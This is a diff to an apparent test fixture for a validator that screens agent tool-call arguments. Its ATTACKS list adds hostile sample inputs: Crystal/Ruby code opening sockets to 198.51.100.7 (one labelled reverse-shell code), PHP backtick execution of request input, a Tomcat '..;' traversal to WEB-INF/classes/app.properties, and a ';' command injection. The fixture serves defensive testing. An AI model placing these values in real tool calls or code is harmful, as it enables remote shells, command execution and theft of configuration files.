@@ -37,6 +37,10 @@ ATTACKS = [
     # Crystal's evaluator; PHP's backtick operator in a tag
     (CMD, "ping_host", "host", "crystal eval 'require \"socket\"; TCPSocket.new(\"198.51.100.7\", 4444)'"),
     (CMD, "backup", "name", "db.example.net`<?=`$_REQUEST[x]`?>`"),
+    # Tomcat's path parameter after a climb (..;x/), encoded or not
+    (PATH, "list_directory", "path", "assets/%2e%2e;v=2/WEB-INF/classes/app.properties"),
+    # a socket opened to a literal address and port: a reverse shell's code
+    (CMD, "ping_host", "host", 'require "socket"\nsock = Socket.tcp(Socket::Family::INET)\nsock.connect("198.51.100.7", 9001)'),
     # a CamelCase program with two options and more arguments after a separator
     (CMD, "dns_lookup", "domain", 'files.local; GetFileInfo -d -m "quarterly report.pdf" ~/x.pdf extra'),
 ]
@@ -48,6 +52,7 @@ BENIGN = [
     ("read_file", "path", "src\\\\utils\\\\..\\\\lib\\\\index.js"),
     ("search_code", "query", "escape the slash as \\/ in the pattern"),
     ("render_template", "template", "<p><?= $title ?></p>"),
+    ("write_file", "content", 'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 8080))\n'),
     ("send_email", "body", "Tom & Jerry -- the film, the sequel, the remake and more"),
     ("get_document", "name", "%25c0 is how a percent sign is escaped"),
 ]
